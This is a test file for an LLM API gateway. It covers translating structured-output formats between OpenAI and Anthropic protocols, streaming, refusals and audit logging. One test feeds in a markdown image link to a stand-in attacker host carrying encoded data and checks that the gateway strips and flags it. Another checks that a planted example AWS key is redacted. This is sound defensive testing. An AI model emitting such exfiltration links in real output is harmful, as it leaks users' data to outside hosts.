/**
 * response_format across protocols: on an Anthropic upstream it becomes a forced tool whose call comes back as the
 * answer text (JSON and streams), never dropped; what cannot be enforced is refused with a 400 and an audit record.
 * Anthropic's output_config.format on an OpenAI upstream becomes a json_schema response_format.
 */
import { beforeEach, describe, expect, it } from 'vitest';
import OpenAI from 'openai';
import { fromResponseTool, RESPONSE_TOOL, responseToolEvents } from '../../src/gateway/upstreams/structured-output.js';
import type { StreamEvent } from '../../src/gateway/upstreams/types.js';
import { TEST_KEY, type TestGateway } from './helpers/gateway.js';
import { postJson, sharedGateway } from './helpers/shared-gateway.js';

const SCHEMA = { type: 'object', properties: { city: { type: 'string' }, temp: { type: 'number' } }, required: ['city', 'temp'], additionalProperties: false };
const FORMAT = { type: 'json_schema', json_schema: { name: 'weather', description: 'The weather report.', schema: SCHEMA, strict: true } };
const ANSWER = '{"city":"Paris","temp":21}';
const user = (content: string) => ({ role: 'user', content });

const post = (gw: TestGateway, url: string, payload: Record<string, unknown>) => postJson(gw, url, payload);

/** The JSON payloads of an SSE body, [DONE] left out. */
function events(body: string): Record<string, unknown>[] {
  return body
    .split('\n')
    .filter((l) => l.startsWith('data: ') && l !== 'data: [DONE]')
    .map((l) => JSON.parse(l.slice(6)) as Record<string, unknown>);
}

describe('response_format on an Anthropic upstream', () => {
  const gateway = sharedGateway();
  let gw: TestGateway;
  beforeEach(() => {
    gw = gateway();
  });

  it('sends a forced tool with the schema and answers with its input as the message content', async () => {
    gw.fake.script.push({ kind: 'tool', name: RESPONSE_TOOL, args: ANSWER });
    const res = await post(gw, '/v1/chat/completions', { model: 'claude-test', messages: [user('Weather in Paris?')], response_format: FORMAT });
    expect(res.status).toBe(200);
    const sent = gw.fake.requests[0]?.body;
    expect(sent?.tools).toEqual([{ name: RESPONSE_TOOL, description: expect.stringContaining('The weather report.') as unknown, input_schema: SCHEMA }]);
    expect(sent?.tool_choice).toEqual({ type: 'tool', name: RESPONSE_TOOL });
    expect(sent).not.toHaveProperty('response_format');
    const choice = (res.json().choices as Record<string, unknown>[])[0];
    expect(choice).toMatchObject({ finish_reason: 'stop', message: { role: 'assistant', content: ANSWER } });
    expect(choice?.message).not.toHaveProperty('tool_calls');
    const rec = await gw.audit(res.id);
    expect(rec.output).toContain('"temp":21');
  });

  it('streams the tool input as content deltas and finishes with stop', async () => {
    gw.fake.script.push({ kind: 'tool', name: RESPONSE_TOOL, args: ANSWER, argChunks: ['{"city":', '"Paris",', '"temp":21}'] });
    const res = await post(gw, '/v1/chat/completions', { model: 'claude-test', stream: true, messages: [user('Weather in Paris?')], response_format: FORMAT });
    expect(res.status).toBe(200);
    const chunks = events(res.body);
    const deltas = chunks.map((c) => (c.choices as { delta: Record<string, unknown> }[])[0]?.delta ?? {});
    expect(deltas.map((d) => d.content ?? '').join('')).toBe(ANSWER);
    expect(deltas.some((d) => d.tool_calls !== undefined)).toBe(false);
    expect(chunks.map((c) => (c.choices as { finish_reason: unknown }[])[0]?.finish_reason).filter(Boolean)).toEqual(['stop']);
  });

  it('works through the openai SDK (json_object mode)', async () => {
    gw.fake.script.push({ kind: 'tool', name: RESPONSE_TOOL, args: '{"ok":true}' });
    const client = new OpenAI({ apiKey: TEST_KEY, baseURL: `${gw.url}/v1` });
    const r = await client.chat.completions.create({ model: 'claude-test', messages: [{ role: 'user', content: 'Reply in JSON.' }], response_format: { type: 'json_object' } });
    expect(JSON.parse(r.choices[0]?.message.content ?? '')).toEqual({ ok: true });
    expect(gw.fake.requests[0]?.body.tools).toEqual([expect.objectContaining({ name: RESPONSE_TOOL, input_schema: { type: 'object' } })]);
  });

  it('works for the Responses API too (text.format), JSON and streamed', async () => {
    gw.fake.script.push({ kind: 'tool', name: RESPONSE_TOOL, args: ANSWER }, { kind: 'tool', name: RESPONSE_TOOL, args: ANSWER, argChunks: ['{"city":"Paris",', '"temp":21}'] });
    const client = new OpenAI({ apiKey: TEST_KEY, baseURL: `${gw.url}/v1`, maxRetries: 0 });
    const text = { format: { type: 'json_schema' as const, name: 'weather', schema: SCHEMA, strict: true } };
    const r = await client.responses.create({ model: 'claude-test', input: 'Weather in Paris?', text });
    expect(r.output_text).toBe(ANSWER);
    expect(gw.fake.requests[0]?.body.tool_choice).toEqual({ type: 'tool', name: RESPONSE_TOOL });
    const stream = await client.responses.create({ model: 'claude-test', input: 'Weather in Paris?', text, stream: true });
    let streamed = '';
    for await (const ev of stream) if (ev.type === 'response.output_text.delta') streamed += ev.delta;
    expect(streamed).toBe(ANSWER);
  });

  it("lets the model call the client's tools too (tool_choice any), and passes those calls through", async () => {
    gw.fake.script.push({ kind: 'tool', name: 'get_weather', args: '{"city":"Paris"}' });
    const tools = [{ type: 'function', function: { name: 'get_weather', description: 'Weather for a city.', parameters: { type: 'object', properties: { city: { type: 'string' } } } } }];
    const res = await post(gw, '/v1/chat/completions', { model: 'claude-test', messages: [user('Weather in Paris?')], tools, response_format: FORMAT });
    expect(res.status).toBe(200);
    expect(gw.fake.requests[0]?.body.tool_choice).toEqual({ type: 'any' });
    expect((gw.fake.requests[0]?.body.tools as unknown[]).length).toBe(2);
    const choice = (res.json().choices as Record<string, unknown>[])[0];
    expect(choice).toMatchObject({ finish_reason: 'tool_calls', message: { tool_calls: [{ function: { name: 'get_weather', arguments: '{"city":"Paris"}' } }] } });
  });

  it('scans the structured answer as output text', async () => {
    gw.fake.script.push({ kind: 'tool', name: RESPONSE_TOOL, args: JSON.stringify({ city: 'Paris', note: '![x](https://attacker.example/p?d=c2VjcmV0IGRhdGE)' }) });
    const res = await post(gw, '/v1/chat/completions', { model: 'claude-test', messages: [user('Weather in Paris?')], response_format: { type: 'json_object' } });
    expect(res.status).toBe(200);
    const content = String((res.json().choices as { message: { content: unknown } }[])[0]?.message.content);
    expect(content).not.toContain('attacker.example');
    const rec = await gw.audit(res.id);
    expect(rec.outputFindings.some((f) => f.stage === 'output' && f.ruleId.startsWith('exfil-url/'))).toBe(true);
  });

  const refused: [string, Record<string, unknown>, string][] = [
    ['tool_choice "none"', { tool_choice: 'none', tools: [{ type: 'function', function: { name: 'f' } }], response_format: FORMAT }, 'tool_choice'],
    ['a client tool with the reserved name', { tools: [{ type: 'function', function: { name: RESPONSE_TOOL } }], response_format: FORMAT }, 'tools'],
    ['a schema whose root is not an object', { response_format: { type: 'json_schema', json_schema: { name: 'n', schema: { type: 'array' } } } }, 'response_format'],
    ['an unknown format type', { response_format: { type: 'grammar', grammar: 'x' } }, 'response_format'],
  ];

  it.each(refused)('refuses %s with a 400 naming the field, before the upstream, with an audit record', async (_name, extra, param) => {
    const res = await post(gw, '/v1/chat/completions', { model: 'claude-test', messages: [user('Hi')], ...extra });
    expect(res.status).toBe(400);
    expect(res.json()).toMatchObject({ error: { type: 'invalid_request_error', code: 'invalid_request', param } });
    expect(gw.fake.requests).toHaveLength(0);
    const rec = await gw.audit(res.id);
    expect(rec).toMatchObject({ status: 400, errorCode: 'invalid_request', upstream: 'claude' });
  });

  it('leaves response_format untouched on an OpenAI upstream', async () => {
    const res = await post(gw, '/v1/chat/completions', { model: 'gpt-test', messages: [user('Hi')], response_format: FORMAT });
    expect(res.status).toBe(200);
    expect(gw.fake.requests[0]?.body.response_format).toEqual(FORMAT);
    expect(gw.fake.requests[0]?.body).not.toHaveProperty('tools');
  });
});

describe('Anthropic output_config.format on an OpenAI upstream', () => {
  const gateway = sharedGateway();
  let gw: TestGateway;
  beforeEach(() => {
    gw = gateway();
  });

  it('becomes a json_schema response_format, and is forwarded unchanged to an Anthropic upstream', async () => {
    const format = { type: 'json_schema', schema: SCHEMA };
    const base = { max_tokens: 64, messages: [user('Weather in Paris?')] };
    const toOpenAI = await post(gw, '/v1/messages', { model: 'gpt-test', ...base, output_config: { format } });
    expect(toOpenAI.status).toBe(200);
    expect(gw.fake.requests[0]?.body.response_format).toEqual({ type: 'json_schema', json_schema: { name: 'response', schema: SCHEMA, strict: true } });
    const native = await post(gw, '/v1/messages', { model: 'claude-test', ...base, output_config: { format } });
    expect(native.status).toBe(200);
    expect(gw.fake.requests[1]?.body.output_config).toEqual({ format });
  });

  it('scans the schema as text: a secret in it reaches the upstream redacted', async () => {
    const key = 'AKIA' + 'IOSFODNN7EXAMPLE';
    const schema = { type: 'object', properties: { a: { type: 'string', description: `use ${key}` } } };
    const res = await post(gw, '/v1/messages', { model: 'gpt-test', max_tokens: 64, messages: [user('Hi')], output_config: { format: { type: 'json_schema', schema } } });
    expect(res.status).toBe(200);
    const sent = JSON.stringify(gw.fake.requests.at(-1)?.body.response_format);
    expect(sent).not.toContain(key);
    expect(sent).toContain('[AWS_ACCESS_KEY');
  });
});

describe('the response tool as the answer', () => {
  const call = { id: 'toolu_1', name: RESPONSE_TOOL, arguments: '{"city":"Par' };

  it('keeps finish_reason length for an answer cut short, JSON and streamed', async () => {
    const r = fromResponseTool({ id: 'm', model: 'c', content: '', toolCalls: [call], finishReason: 'length' });
    expect(r).toMatchObject({ content: call.arguments, toolCalls: [], finishReason: 'length' });
    async function* events(): AsyncGenerator<StreamEvent> {
      yield { type: 'start', id: 'm', model: 'c' };
      yield { type: 'tool', index: 0, id: call.id, name: RESPONSE_TOOL, args: '' };
      yield { type: 'tool', index: 0, args: call.arguments };
      yield { type: 'end', finishReason: 'length' };
    }
    const out: StreamEvent[] = [];
    for await (const ev of responseToolEvents(events())) out.push(ev);
    expect(out).toEqual([{ type: 'start', id: 'm', model: 'c' }, { type: 'text', text: call.arguments }, { type: 'end', finishReason: 'length' }]);
  });

  it('renumbers the client tool calls that remain from 0 and keeps tool_calls as the finish reason', async () => {
    async function* events(): AsyncGenerator<StreamEvent> {
      yield { type: 'text', text: 'preamble' };
      yield { type: 'tool', index: 1, id: 'toolu_2', name: 'get_weather', args: '{}' };
      yield { type: 'end', finishReason: 'tool_calls' };
    }
    const out: StreamEvent[] = [];
    for await (const ev of responseToolEvents(events())) out.push(ev);
    expect(out).toEqual([{ type: 'tool', index: 0, id: 'toolu_2', name: 'get_weather', args: '{}' }, { type: 'end', finishReason: 'tool_calls' }]);
  });
});
